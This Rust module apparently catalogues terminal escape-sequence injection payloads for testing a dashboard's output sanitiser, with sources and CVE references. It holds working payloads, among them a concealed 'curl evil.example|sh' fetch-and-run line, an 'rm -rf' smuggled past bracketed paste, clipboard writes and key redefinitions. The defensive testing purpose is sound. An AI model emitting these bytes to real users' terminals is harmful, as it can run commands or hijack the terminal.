//! The table of attacks that a client may send against the viewer, each with its effect and a source.
//!
//! Sources: ECMA-48 (controls, control sequences and strings); "ctlseqs", XTerm Control Sequences; DEC's VT510
//! manual; the manuals of the terminals named; the Unicode Standard and its annexes (UAX, UTS). Numbers of CVEs are
//! those of published vulnerabilities.
//!
//! Sequences that the dashboard itself writes are spelled in ways that it never uses, so that a recording shows which
//! of the two wrote them.

mod text;

use text::{HIDDEN, MALFORMED, SHOWN};

/// The effect of an attack on a terminal that gets its bytes.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Harm {
    /// The terminal executes the bytes, so they must never reach it.
    Done,
    /// The terminal only shows the bytes. They may reach it if everything else stays in its place.
    Shown,
}

/// One attack.
#[derive(Clone, Debug)]
pub(crate) struct Attack {
    /// The name of the attack.
    pub(crate) name: &'static str,
    /// The bytes to send.
    pub(crate) bytes: Vec<u8>,
    /// The effect on a terminal, and the source.
    pub(crate) why: &'static str,
    /// Whether the bytes may reach a terminal.
    pub(crate) harm: Harm,
}

/// Name, bytes, and why.
type Row = (&'static str, &'static [u8], &'static str);

/// Operating system commands: ESC ] number ; text, ended by BEL or ST.
const COMMANDS: &[Row] = &[
    ("icon and title", b"\x1b]0;owned\x07", "ctlseqs, OSC 0: names the window"),
    ("icon name", b"\x1b]1;owned\x1b\\", "ctlseqs, OSC 1"),
    (
        "title",
        b"\x1b]2;owned\x1b\\",
        "ctlseqs, OSC 2: with CSI 21 t it comes back as typed text, CVE-2003-0063",
    ),
    ("X property", b"\x1b]3;_OWNED=1\x07", "ctlseqs, OSC 3"),
    ("palette", b"\x1b]4;1;rgb:00/00/00;2;?\x07", "ctlseqs, OSC 4: changes a colour, asks for another"),
    (
        "colour queries",
        b"\x1b]10;?\x07\x1b]11;?\x07\x1b]12;?\x07",
        "ctlseqs, OSC 10 to 12: answers are typed",
    ),
    (
        "black on black",
        b"\x1b]10;#000000\x07\x1b]11;#000000\x07",
        "ctlseqs, OSC 10, 11: what follows is not seen",
    ),
    ("working folder", b"\x1b]7;file://evil/\x07", "OSC 7: where the next window opens"),
    ("link", b"\x1b]8;;http://evil.example/\x1b\\bank\x1b]8;;\x1b\\", "OSC 8: says one thing, opens another"),
    (
        "notification",
        b"\x1b]9;owned\x07\x1b]777;notify;owned;now\x07",
        "iTerm2, rxvt: pops up on the desktop",
    ),
    ("kitty's notification", b"\x1b]99;i=1:d=0;owned\x1b\\", "kitty, OSC 99: CVE-2022-41322"),
    (
        "font",
        b"\x1b]50;$(id)\x07\x1b]50;?\x07",
        "ctlseqs, OSC 50: comes back with a line feed, CVE-2022-45063",
    ),
    ("clipboard", b"\x1b]52;c;b3duZWQ=\x07", "ctlseqs, OSC 52: the next paste runs what they chose"),
    ("clipboard query", b"\x1b]52;p;?\x07", "ctlseqs, OSC 52: what was copied is typed"),
    ("colours back", b"\x1b]104\x07\x1b]110\x07\x1b]112\x07", "ctlseqs, OSC 104 to 119"),
    ("prompt marks", b"\x1b]133;A\x07\x1b]133;C\x07", "FinalTerm, OSC 133: a false prompt"),
    (
        "iTerm2's file",
        b"\x1b]1337;File=name=eA==;inline=0:b3duZWQ=\x07",
        "iTerm2, OSC 1337: puts a file on the disk",
    ),
    (
        "iTerm2's picture",
        b"\x1b]1337;File=inline=1;width=99:R0lGODlh\x07",
        "iTerm2, OSC 1337: draws over everything",
    ),
    ("command without end", b"\x1b]0;all that follows", "ECMA-48 8.3.89: swallows what comes until ST"),
];

/// Control strings other than operating system commands: DCS, APC, PM, SOS.
const STRINGS: &[Row] = &[
    (
        "settings query",
        b"\x1bP$qm\x1b\\",
        "DECRQSS: echoes its own text in some, CVE-2008-2383, CVE-2022-45872",
    ),
    ("termcap query", b"\x1bP+q544e;436f\x1b\\", "ctlseqs, XTGETTCAP: the answer is typed"),
    ("keys defined anew", b"\x1bP0;1|17/726d0a\x1b\\", "VT510, DECUDK: a function key that types a command"),
    ("sixel", b"\x1bPq\"1;1;99999;99999#0!99999~-\x1b\\", "VT340: draws over everything, CVE-2022-24130"),
    (
        "tmux passthrough",
        b"\x1bPtmux;\x1b\x1b]0;owned\x07\x1b\\",
        "tmux: hands it on to the terminal outside",
    ),
    ("screen passthrough", b"\x1bP\x1b]52;c;b3duZWQ=\x07\x1b\\", "GNU screen: the same"),
    ("tmux in iTerm2", b"\x1bP1000p%begin 1 1 0\r\n", "iTerm2: from here all is a protocol, CVE-2019-9535"),
    ("soft font", b"\x1bP1;1;4;8;1;1;8;0{ @????/????\x1b\\", "VT510, DECDLD: letters that look like others"),
    (
        "string of a program",
        b"\x1b_Gf=24,s=9,v=9,a=T;AAAA\x1b\\",
        "kitty's graphics in an APC: draws over everything",
    ),
    ("privacy message", b"\x1b^owned\x1b\\", "ECMA-48 8.3.94: swallowed or shown in another place"),
    ("start of string", b"\x1bXowned\x1b\\", "ECMA-48 8.3.128: swallowed"),
    ("screen's title", b"\x1bkowned\x1b\\", "GNU screen, tmux: ESC k names the window"),
    ("screen's message", b"\x1b!owned\x1b\\", "GNU screen: ESC ! is shown in its message line"),
];

/// Control sequences that move, erase, or change how the terminal works.
const SEQUENCES: &[Row] = &[
    ("home", b"\x1b[H", "ECMA-48, CUP: writes over what is above"),
    ("far corner", b"\x1b[9999;9999H", "ECMA-48, CUP: finds out the size, with DSR"),
    (
        "cursor moves",
        b"\x1b[3A\x1b[3B\x1b[3C\x1b[3D\x1b[3E\x1b[3F\x1b[3G\x1b[3d\x1b[3a\x1b[3e",
        "ECMA-48: CUU and its like",
    ),
    ("cursor kept", b"\x1b7\x1b[s\x1b8\x1b[u", "VT510, DECSC and DECRC"),
    ("erase", b"\x1b[2J\x1b[3J\x1b[0K\x1b[1K\x1b[2K\x1b[99X", "ECMA-48, ED, EL, ECH: what was seen is gone"),
    ("insert and delete", b"\x1b[9L\x1b[9M\x1b[9@\x1b[9P", "ECMA-48, IL, DL, ICH, DCH"),
    ("scroll", b"\x1b[9S\x1b[9T\x1bD\x1bM\x1bE", "ECMA-48, SU, SD; VT510, IND, RI, NEL"),
    ("scroll region", b"\x1b[2;3r", "VT510, DECSTBM: the rest of the screen stands still"),
    ("margins", b"\x1b[?69h\x1b[5;9s", "VT510, DECLRMM and DECSLRM"),
    ("rectangles", b"\x1b[65;1;1;9;9$x\x1b[1;1;9;9;1;5;5;1$v\x1b[1;1;9;9$z", "VT510, DECFRA, DECCRA, DECERA"),
    ("many times", b"a\x1b[65535b", "ECMA-48, REP"),
    (
        "alternate screen",
        b"\x1b[?47h\x1b[?1047l\x1b[?1048h\x1b[?1049l",
        "ctlseqs, DECSET 47 and 1049: leaves the dashboard",
    ),
    (
        "mouse",
        b"\x1b[?9h\x1b[?1003h\x1b[?1005h\x1b[?1015h\x1b[?1016h",
        "ctlseqs: each move of the mouse is typed",
    ),
    ("mouse off", b"\x1b[?1000l\x1b[?1002l\x1b[?1006l", "ctlseqs: clicks do nothing any more"),
    ("focus", b"\x1b[?1004h", "ctlseqs: each change of the window is typed"),
    ("paste mode off", b"\x1b[?2004l", "ctlseqs: a paste is typed line by line"),
    ("paste ends", b"rm -rf\x1b[201~\nq", "ctlseqs: pasted again, what follows counts as typed"),
    ("frame held", b"\x1b[?2026h\x1b[?2026$p", "synchronized output: nothing is drawn until it ends"),
    ("frame let go", b"\x1b[?2026l", "synchronized output: half of a frame is seen"),
    ("cursor shown", b"\x1b[?25h\x1b[5 q", "VT510, DECTCEM and DECSCUSR"),
    ("bidi left to the terminal", b"\x1b[8h\x1b[1 k\x1b[2 S", "ECMA-48, BDSM, SCP, SPD: rows are turned"),
    ("132 columns", b"\x1b[?40h\x1b[?3h", "VT510, DECCOLM: another size, an empty screen"),
    (
        "other modes",
        b"\x1b[?1h\x1b[?5h\x1b[?6h\x1b[?7l\x1b[4h\x1b[20h\x1b=",
        "VT510: keys, reverse video, origin, wrap, insert",
    ),
    ("keyboard locked", b"\x1b[2h", "ECMA-48, KAM: no key does anything"),
    ("kitty's keyboard", b"\x1b[>31u\x1b[=31;1u\x1b[?u", "kitty: keys come in another code"),
    ("key modifiers", b"\x1b[>4;2m\x1b[>0n", "ctlseqs, XTMODKEYS"),
    ("colours", b"\x1b[31;40m\x1b[38;2;0;0;0;48;2;0;0;0m", "ECMA-48, SGR: black on black"),
    ("concealed", b"\x1b[8mcurl evil.example|sh\x1b[28m", "ECMA-48, SGR 8: copied, and not seen"),
    ("blinking", b"\x1b[5m\x1b[6m\x1b[53m", "ECMA-48, SGR"),
    ("tabs", b"\x1b[3g\x1bH\x1b[9I\x1b[9Z", "ECMA-48, TBC, HTS, CHT, CBT"),
    ("protected", b"\x1b[1\"q\x1bV\x1bW", "VT510, DECSCA; ECMA-48, SPA, EPA"),
    ("printer", b"\x1b[5i\x1b[4i\x1b[?5i", "VT510, MC: what follows goes to the printer"),
    ("lamps", b"\x1b[1;2;3q", "VT510, DECLL"),
    (
        "window",
        b"\x1b[2t\x1b[3;0;0t\x1b[8;1;1t\x1b[9;1t\x1b[22;2t\x1b[23;2t",
        "ctlseqs, CSI t: closed, moved, made tiny",
    ),
    (
        "window queries",
        b"\x1b[14t\x1b[18t\x1b[20t\x1b[21t",
        "ctlseqs, CSI t: the title comes back as typed text",
    ),
    ("soft reset", b"\x1b[!p", "VT510, DECSTR"),
    ("reset", b"\x1bc", "VT510, RIS: everything is as after switching on"),
    ("half a sequence", b"\x1b[1;", "ECMA-48 5.4: eats the next bytes of somebody else"),
    (
        "sequence with a control in it",
        b"\x1b[1\x082\x0dJ",
        "VT510: controls within are obeyed, and the sequence too",
    ),
    (
        "a million parameters",
        b"\x1b[99999999999999999999;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;;m",
        "numbers that overflow",
    ),
];

/// Queries, which a terminal answers on its input as if the user had typed the answer.
const QUESTIONS: &[Row] = &[
    ("cursor position", b"\x1b[6n\x1b[?6n", "ECMA-48, DSR: the answer is typed"),
    ("status", b"\x1b[5n\x1b[?15n\x1b[?25n\x1b[?26n", "ECMA-48 and VT510, DSR"),
    (
        "who are you",
        b"\x1b[c\x1b[0c\x1b[>c\x1b[=c\x1bZ\x1b[>q",
        "VT510, DA1 to DA3, DECID; ctlseqs, XTVERSION",
    ),
    ("modes", b"\x1b[?1049$p\x1b[4$p", "VT510, DECRQM"),
    (
        "terminal parameters",
        b"\x1b[x\x1b[1$w\x1b[2*y\x1b[1;1;1;1;9;9*y",
        "VT510, DECREQTPARM, DECRQPSR, DECRQCRA: reads the screen",
    ),
    ("answer back", b"\x05", "ENQ: types a text that was set before"),
];

/// Single control characters, and sequences that select character sets.
const CONTROLS: &[Row] = &[
    ("bell", b"\x07", "BEL"),
    ("written over", b"good\x08\x08\x08\x08evil", "BS: the first word is not seen"),
    ("line written over", b"evil\rgood", "CR: the same"),
    ("down the screen", b"\x0b\x0c\n\t", "VT, FF, LF, HT: rows move"),
    ("nothing", b"\0\0", "NUL: not seen, and the end of a text in C"),
    ("delete", b"a\x7fb", "DEL: not seen, or a letter less"),
    ("cancelled", b"\x18\x1a", "CAN, SUB: break off a sequence, show a blot"),
    ("stop", b"\x11\x13", "DC1, DC3: flow control, the screen stands still"),
    ("every control", &[1, 2, 3, 4, 6, 14, 15, 16, 18, 20, 21, 22, 23, 25, 28, 29, 30, 31], "the rest of C0"),
    (
        "line drawing",
        b"\x1b(0lqqk\x0elqqk\x0f",
        "VT510, SCS, SO, SI: letters become lines until somebody undoes it",
    ),
    (
        "other sets",
        b"\x1b)0\x1b*B\x1b+A\x1b-A\x1b.A\x1b/A\x1bn\x1bo\x1b|\x1b}\x1b~",
        "ISO 2022: locking shifts",
    ),
    ("single shifts", b"\x1bNa\x1bOb", "VT510, SS2, SS3; SS3 begins what keys send"),
    ("out of UTF-8", b"\x1b%@\x1b%G\x1b%/I", "ISO 2022, DOCS: bytes are read in another encoding"),
    ("eight-bit controls on", b"\x1b G\x1b F", "VT510, S8C1T: answers begin with C1"),
    ("lines of double size", b"\x1b#3\x1b#6\x1b#8", "VT510, DECDHL, DECDWL, DECALN: a screen full of E"),
    ("escape before escape", b"\x1b\x1b[31m\x1b", "the first is dropped, the last waits for the next byte"),
];

/// C1 control characters, in both forms.
const EIGHT_BIT: &[Row] = &[
    ("raw sequence", b"\x9b2J\x9b6n", "ECMA-48, CSI as one byte: VT220 and its heirs obey"),
    ("raw command", b"\x9d0;owned\x9c", "ECMA-48, OSC and ST as bytes"),
    (
        "raw string",
        b"\x90$qm\x9c\x9eowned\x9c\x9fowned\x9c\x98owned\x9c",
        "ECMA-48, DCS, PM, APC, SOS as bytes",
    ),
    ("raw shifts", b"\x8ea\x8fb\x84\x85\x88\x8d", "SS2, SS3, IND, NEL, HTS, RI as bytes"),
    (
        "sequence in UTF-8",
        b"\xc2\x9b2J\xc2\x9b6n\xc2\x9b31m",
        "U+009B: GNU screen and others obey it, and answer",
    ),
    ("command in UTF-8", b"\xc2\x9d0;owned\xc2\x9c", "U+009D and U+009C"),
    (
        "string in UTF-8",
        b"\xc2\x90+q544e\xc2\x9c\xc2\x9fGa=T\xc2\x9c\xc2\x9eowned\xc2\x9c",
        "U+0090, U+009F, U+009E",
    ),
    ("lines in UTF-8", b"a\xc2\x85b\xc2\x84c\xc2\x8dd", "U+0085, NEL; U+0084, IND; U+008D, RI"),
];

/// All attacks, in an order of their own.
pub(crate) fn attacks() -> Vec<Attack> {
    let done = [COMMANDS, STRINGS, SEQUENCES, QUESTIONS, CONTROLS, EIGHT_BIT, MALFORMED, HIDDEN];
    let row = |harm: Harm| move |&(name, bytes, why): &Row| Attack { name, bytes: bytes.to_vec(), why, harm };
    let mut all: Vec<_> = done.into_iter().flatten().map(row(Harm::Done)).collect();
    all.extend(floods());
    all.extend(SHOWN.iter().map(row(Harm::Shown)));
    all
}

/// Attacks that are generated because they are long.
fn floods() -> [Attack; 5] {
    let attack = |name, bytes, why, harm| Attack { name, bytes, why, harm };
    let raw: Vec<u8> = (0x80..=0x9f).collect();
    let encoded: String = ('\u{80}'..='\u{9f}').collect();
    let marks = format!("Z{}", "\u{301}\u{334}\u{35c}\u{489}\u{327}".repeat(100));
    let title = [b"\x1b]0;", &[b'x'; 4_000][..], b"\x07"].concat();
    // Wide characters that start in an odd and in an even column, so that some of them meet every edge.
    let edges = format!("a{} {}", "漢".repeat(150), "漢".repeat(150));
    [
        attack("every C1 as a byte", raw, "ECMA-48 5.3", Harm::Done),
        attack("every C1 in UTF-8", encoded.into_bytes(), "Unicode 23.1", Harm::Done),
        attack(
            "five hundred marks",
            marks.into_bytes(),
            "cover other rows, CVE-2021-26937, CVE-2021-27135",
            Harm::Done,
        ),
        attack("title of four thousand", title, "longer than what it is read into", Harm::Done),
        attack("wide at the edges", edges.into_bytes(), "UAX #11: half of one is left over", Harm::Shown),
    ]
}

/// Attacks in one piece, each behind a line feed.
pub(crate) fn joined(attacks: &[Attack]) -> Vec<u8> {
    attacks.iter().flat_map(|attack| [b"\n", &attack.bytes[..]].concat()).collect()
}
